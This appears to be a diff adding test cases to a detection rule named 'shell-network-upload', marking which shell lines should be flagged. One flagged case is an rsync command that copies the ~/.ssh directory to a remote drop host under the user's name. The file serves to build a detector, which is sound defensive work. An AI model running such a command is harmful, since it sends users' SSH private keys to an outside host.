@@ -47,3 +47,9 @@ git remote add dr-mirror "$MIRROR_URL"
 git push --mirror dr-mirror
 # ok: shell-network-upload
 git push origin main
+# a destination whose host is written and whose path is computed at run time is still that host
+DEST_HOST="bk-07.backup-drop.example"
+# ruleid: shell-network-upload
+rsync -az ~/.ssh "drop@$DEST_HOST:vault/$(whoami)/"
+# ok: shell-network-upload
+rsync -az ./dist "$1:/srv/app/"
